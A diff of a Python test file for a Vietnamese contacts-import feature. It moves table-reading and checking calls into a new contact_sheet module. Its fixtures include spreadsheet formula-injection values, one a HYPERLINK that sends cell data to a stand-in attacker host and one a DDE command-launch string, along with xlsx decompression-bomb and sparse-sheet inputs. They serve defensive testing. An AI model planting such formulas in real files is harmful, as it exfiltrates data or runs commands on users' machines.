@@ -35,7 +35,7 @@ from workflow.app import App
 from workflow.db import models
 from workflow.operations.backup import create_backup
 from workflow.operations.restore_safety import HELD_REASON
-from workflow.season import contacts
+from workflow.season import contact_sheet, contacts
 
 HOSTILE = {"name": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "phone": "+84 912 345 678",
            "unit": "@SUM(1+1)*cmd|' /C calc'!A0", "role": "-2+3"}
@@ -145,7 +145,7 @@ def test_contacts_import_refuses_an_xlsx_bomb(tmp_path: Path) -> None:
     bomb = _xlsx(tmp_path / "bom.xlsx", padding, repeat=8_000)  # 80 MB of XML in a few hundred KB
     assert bomb.stat().st_size < 1024 * 1024
     with pytest.raises(contacts.ContactError, match="giải nén ra .* quá giới hạn 50 MB"):
-        contacts.read_table(bomb)
+        contact_sheet.read_table(bomb)
 
 
 def test_contacts_import_stops_at_the_row_cap_of_a_sparse_sheet(tmp_path: Path) -> None:
@@ -153,17 +153,17 @@ def test_contacts_import_stops_at_the_row_cap_of_a_sparse_sheet(tmp_path: Path) 
     sparse = _xlsx(tmp_path / "thua.xlsx", '<row r="1"><c r="A1" t="inlineStr"><is><t>Đơn vị</t></is></c></row>'
                                            '<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row>')
     with pytest.raises(contacts.ContactError, match="có hơn 5.000 dòng"):
-        contacts.read_table(sparse)
+        contact_sheet.read_table(sparse)
 
 
 def test_contacts_import_stops_when_checking_takes_too_long(roster) -> None:  # type: ignore[no-untyped-def]
     """Lines that name no agency make each look-up scan every name; past the time budget the import stops."""
     rows = [(1, ["Đơn vị", "Email"])] + [(i + 2, [f"Sở Khoa học và Công nghệ không có thật số {i}",
                                                   f"n{i}@x.example.org"]) for i in range(4_999)]
-    limits = contacts.ImportLimits(max_seconds=0.2)
+    limits = contact_sheet.ImportLimits(max_seconds=0.2)
     with pytest.raises(contacts.ContactError, match="quá 0,2 giây nên đã dừng, không nhập gì"):
-        contacts.check_table(roster, rows, limits=limits)
-    assert not contacts.check_table(roster, rows[:3]).lines  # the same lines, few enough, are simply reported
+        contact_sheet.check_table(roster, rows, limits=limits)
+    assert not contact_sheet.check_table(roster, rows[:3]).lines  # the same lines, few enough, are simply reported
 
 
 # --- folders and locks whatever the umask -----------------------------------------------------------
